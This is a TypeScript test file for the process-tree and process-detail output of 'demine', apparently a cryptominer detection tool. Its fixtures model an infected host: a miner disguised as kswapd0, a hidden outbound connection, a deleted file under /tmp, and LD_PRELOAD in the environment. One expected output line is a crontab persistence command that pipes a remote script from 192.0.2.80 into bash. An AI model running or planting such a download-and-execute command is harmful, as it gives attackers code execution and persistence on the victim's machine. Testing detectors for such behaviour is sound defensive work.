import { describe, expect, test } from 'bun:test';
import type { ScanResult } from '../model/result.ts';
import { graveEntries } from './entries.fixture.ts';
import { type ProcessDetail, renderProcess } from './process-detail.ts';
import { renderProcessTree } from './process-tree.ts';
import { cleanResult, hostileResult, miningResult } from './result.fixture.ts';
import { processRow } from './rows.fixture.ts';
import { displayWidth } from './width.ts';

const plain = { width: 80, color: false, language: 'en' } as const;
const wide = { ...plain, width: 160 } as const;

describe('demine ps', () => {
  test('draws children under their parents', () => {
    const lines = renderProcessTree(cleanResult, plain).split('\n');
    const at = (pattern: RegExp): number => lines.findIndex((line) => pattern.test(line));
    expect(at(/ 701 .* ├─ sshd/)).toBeLessThan(at(/ 9120 .* │ {2}└─ sshd/));
    expect(at(/ 9120 .* │ {2}└─ sshd/)).toBeLessThan(at(/ 9131 .* │ {5}└─ bash/));
  });

  test('tells of a suspect its judgement, that it hides, its file, container and connections', () => {
    const text = renderProcessTree(miningResult, wide);
    const line = text.split('\n').find((row) => /└─ kswapd0/.test(row)) ?? '';
    for (const part of [
      '✗',
      '4711',
      '398',
      'www-data',
      'mining 99',
      'hidden',
      'deleted',
      'container shop',
      '→ 203.0.113.77:443',
    ]) {
      expect(line).toContain(part);
    }
    expect(text).toContain('2 processes need a look:');
    expect(renderProcessTree(cleanResult, plain)).toContain('No process needs a look.');
  });

  test('folds kernel threads that are nothing unusual, unless all are asked for', () => {
    expect(renderProcessTree(cleanResult, plain)).toContain('2 kernel threads, nothing unusual');
    expect(renderProcessTree(cleanResult, { ...plain, all: true })).toContain('[kthreadd]');
    const odd: ScanResult = {
      ...cleanResult,
      processes: cleanResult.processes.map((row) =>
        row.kernelThread ? { ...row, judgement: 'suspicious' } : row,
      ),
    };
    expect(renderProcessTree(odd, plain)).toContain('[kthreadd]');
  });

  test('a circle of parents loses no process and ends', () => {
    const processes = [
      processRow({ pid: 10, ppid: 11 }),
      processRow({ pid: 11, ppid: 10 }),
      processRow({ pid: 12, ppid: 12 }),
    ];
    const text = renderProcessTree({ ...cleanResult, processes }, plain);
    for (const pid of [10, 11, 12]) expect(text.match(new RegExp(` ${pid} `, 'g'))?.length).toBe(1);
  });

  test('a chain of 5000 forks stays within the width and shows every name', () => {
    const processes = Array.from({ length: 5000 }, (_, index) =>
      processRow({ pid: index + 1, ppid: index, name: `p${index + 1}` }),
    );
    const lines = renderProcessTree({ ...cleanResult, processes }, plain).split('\n');
    expect(lines.filter((line) => /p\d+/.test(line)).length).toBe(5000);
    expect(Math.max(...lines.map(displayWidth))).toBeLessThanOrEqual(80);
  });

  test('a hostile host neither breaks the lines nor the terminal', () => {
    const text = renderProcessTree(hostileResult, plain);
    expect(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/.test(text)).toBe(false);
    expect(Math.max(...text.split('\n').map(displayWidth))).toBeLessThanOrEqual(80);
  });
});

function detailOf(result: ScanResult): ProcessDetail {
  const [row = processRow({ pid: 1 })] = result.processes.filter((process) => process.pid === 4711);
  return {
    row,
    files: [{ fd: 7, path: '/tmp/.X11-unix/.rsync/c/cfg', deleted: true }],
    sockets: result.sockets.filter((socket) => socket.pids.includes(row.pid)),
    memory: {
      status: 'ok',
      mappings: 61,
      resident: row.rss,
      rwx: 4,
      largest: [{ size: 0x82000000, access: 'rw-p', path: '' }],
      shape: 'RandomX dataset and cache',
    },
    children: [],
    namespaces: { mnt: 4026531841, uts: 4026531838 },
    limits: { lockedMemory: Number.POSITIVE_INFINITY, openFiles: 1024 },
    persistence: [
      ...graveEntries.slice(0, 1).map((entry) => ({ entry, by: 'program' as const })),
      ...graveEntries
        .slice(1)
        .map((entry) => ({ entry, by: 'unit' as const, ancestor: { pid: 4700, name: 'sh' } })),
    ],
    restartPolicy: 'always',
    findings: result.findings.filter((finding) => finding.pid === row.pid),
    environmentNames: ['HOME', 'LD_PRELOAD'],
    at: result.finished,
  };
}

describe('demine ps PID', () => {
  test('shows namespaces and limits in both languages', () => {
    const detail = detailOf(cleanResult);
    const shown = (language: 'en' | 'zh-CN') => renderProcess(detail, { ...plain, language });
    for (const language of ['en', 'zh-CN'] as const)
      expect(shown(language)).toContain('mnt 4026531841  uts 4026531838');
    expect(shown('en')).toContain('locked memory unlimited · open files 1024');
    expect(shown('zh-CN')).toContain('锁定内存 不限 · 打开文件数 1024');
  });

  test('shows everything that is known of the process', () => {
    const text = renderProcess(detailOf(miningResult), plain);
    for (const part of [
      '✗ PID 4711  kswapd0  mining 99',
      'www-data (uid 33)',
      '398 % of one core now, 10 d 17 h in all',
      'compute RandomX',
      '172.17.0.2:44210 → 203.0.113.77:443',
      'HIDDEN from /proc/net',
      '/tmp/.X11-unix/.rsync/c/cfg (deleted)',
      '61 mappings, 2.3 GiB resident, 4 writable and executable',
      'RandomX dataset and cache',
      'restart policy of its container: always',
      "malicious  user's crontab  /var/spool/cron/crontabs/www-data:3",
      'starts its program',
      '      curl -fsSL http://192.0.2.80/i.sh | bash',
      'is its unit · of its parent 4700 sh',

      'HOME LD_PRELOAD',
      'Children  none',
    ]) {
      expect(text).toContain(part);
    }
  });

  test('says in Chinese why memory was not read', () => {
    const detail: ProcessDetail = {
      ...detailOf(miningResult),
      memory: { status: 'unread', reason: 'EACCES' },
    };
    expect(renderProcess(detail, { ...plain, language: 'zh-CN' })).toContain('未读取：EACCES');
  });

  test('cuts long lists unless all is asked for, and stays within the width', () => {
    const files = Array.from({ length: 500 }, (_, fd) => ({
      fd,
      path: `/tmp/${'x'.repeat(300)}${fd}`,
      deleted: false,
    }));
    const detail = { ...detailOf(hostileResult), files };
    const text = renderProcess(detail, plain);
    expect(text).toContain('488 more lines (show them: --all)');
    expect(renderProcess(detail, { ...plain, all: true }).split('\n').length).toBeGreaterThan(500);
    expect(Math.max(...text.split('\n').map(displayWidth))).toBeLessThanOrEqual(80);
  });
});
